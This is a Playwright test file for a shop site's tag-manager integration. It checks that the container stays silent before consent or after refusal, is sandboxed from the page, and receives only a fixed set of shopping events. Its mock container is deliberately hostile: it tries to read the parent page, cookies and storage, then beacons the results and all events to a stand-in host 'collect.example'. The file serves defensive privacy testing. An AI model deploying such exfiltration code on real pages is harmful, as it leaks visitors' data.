// What a tag container gets to know: after consent, in a frame of no origin, a closed list of events.
import type { Page } from '@playwright/test'
import { expectNoBarrier } from '../support/axe.ts'
import { aProgramme } from '../support/programme.ts'
import { getAnOffer } from '../support/sale.ts'
import { expect, test } from '../support/test.ts'
import { comesAlive, visitorOf } from '../support/visitor.ts'

/** A container as curious as one can be: it tries to see the page around it, and sends home all that it is told. */
const CONTAINER = `
const tries = {}
const attempt = (name, look) => { try { tries[name] = String(look()) } catch (error) { tries[name] = 'refused' } }
attempt('page', () => parent.document.body.innerText)
attempt('address', () => parent.location.href)
attempt('cookies', () => document.cookie)
attempt('storage', () => localStorage.length)
attempt('own', () => location.href + document.referrer)
const send = (what) => { new Image().src = 'https://collect.example/?' + encodeURIComponent(JSON.stringify(what)) }
send({ tries })
for (const event of dataLayer) send(event)
dataLayer.push = (event) => send(event)
const added = document.createElement('script')
added.src = 'https://tags.example/added.js'
document.head.append(added)
`

/** What left for the container's makers, in order. */
const collected = async (page: Page) => {
  const sent: Record<string, unknown>[] = []
  await page.route('https://www.googletagmanager.com/**', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: CONTAINER }),
  )
  await page.route('https://tags.example/**', (route) => route.fulfill({ contentType: 'text/javascript', body: '' }))
  await page.route('https://collect.example/**', (route) => {
    sent.push(JSON.parse(decodeURIComponent(new URL(route.request().url()).search.slice(1))))
    return route.fulfill({ status: 204 })
  })
  return sent
}

test.describe('a programme with a tag container', () => {
  test.use({
    // Three hosts of the container's, and what it tries is refused by the browser, aloud.
    expectedFaults: [
      /request to somebody else: https:\/\/(www\.googletagmanager\.com|tags\.example|collect\.example)\/|Unsafe attempt|Blocked a frame|sandboxed|SecurityError/,
    ],
  })

  test('asks nobody else for anything before the visitor allows it, nor after a refusal', async ({ page, baseURL }) => {
    const shop = await aProgramme(baseURL ?? '', { config: { tagManagerId: 'GTM-ABC123' } })
    const sent = await collected(page)
    const outside: string[] = []
    page.on('request', (request) => {
      if (new URL(request.url()).origin !== baseURL) outside.push(request.url())
    })
    const { say } = visitorOf(page, shop.id, 'fr')
    await page.goto(shop.address())
    await expect(page.getByText(say('measurement.title'))).toBeVisible()
    await page.waitForLoadState('networkidle')
    await expectNoBarrier(page, 'the question whether visits may be counted')
    await page.getByRole('button', { name: say('measurement.refuse') }).click()
    await page.reload()
    await comesAlive(page)
    await page.waitForLoadState('networkidle')
    await expect(page.getByText(say('measurement.title'))).toHaveCount(0)
    expect([outside, sent]).toEqual([[], []])
    expect(await page.evaluate(() => document.cookie)).toBe('')
  })

  test('tells it what was looked at and nothing about anybody, however curious it is', async ({ page, baseURL }) => {
    const shop = await aProgramme(baseURL ?? '', { config: { tagManagerId: 'GTM-ABC123' } })
    const sent = await collected(page)
    const visitor = visitorOf(page, shop.id, 'fr')
    await page.goto(shop.address())
    await page.getByRole('button', { name: visitor.say('measurement.allow') }).click()
    await getAnOffer(visitor)
    await expect.poll(() => sent.map(({ event }) => event)).toContain('add_to_cart')
    const { tries } = sent.find((one) => 'tries' in one) ?? {}
    expect(tries).toMatchObject({ page: 'refused', address: 'refused', cookies: 'refused', storage: 'refused' })
    expect((tries as { own: string }).own).toBe(`${baseURL}/tags/${shop.id}`)
    const events = sent.filter(({ event }) => typeof event === 'string' && event !== 'gtm.js')
    expect([...new Set(events.map(({ event }) => event))]).toEqual(['content-view', 'view_item', 'add_to_cart'])
    const offer = events.find(({ event }) => event === 'add_to_cart')
    expect(offer).toMatchObject({
      ecommerce: {
        currency: 'EUR',
        value: expect.any(Number),
        items: [{ item_brand: 'Apple', item_category: 'mobile' }],
      },
    })
    // No id of a row is among all that left.
    expect(JSON.stringify(sent)).not.toMatch(/[0-9a-f]{8}-[0-9a-f]{4}-4/)
  })

  test('stops at once when the visitor takes it back', async ({ page, baseURL }) => {
    const shop = await aProgramme(baseURL ?? '', { config: { tagManagerId: 'GTM-ABC123' } })
    const sent = await collected(page)
    const { say } = visitorOf(page, shop.id, 'fr')
    await page.goto(shop.address())
    await page.getByRole('button', { name: say('measurement.allow') }).click()
    // All that there is to tell of this page.
    await expect.poll(() => sent.map(({ event }) => event)).toContain('content-view')
    await page
      .getByRole('contentinfo')
      .getByRole('button', { name: say('measurement.again') })
      .click()
    await page.getByRole('button', { name: say('measurement.refuse') }).click()
    await expect(page.locator('iframe')).toHaveCount(0)
    const before = sent.length
    await page
      .getByRole('main')
      .getByRole('link', { name: say('productType.tablet'), exact: true })
      .click()
    await expect(page).toHaveURL(/find\/tablet/)
    await page.waitForLoadState('networkidle')
    expect(sent.length).toBe(before)
  })
})
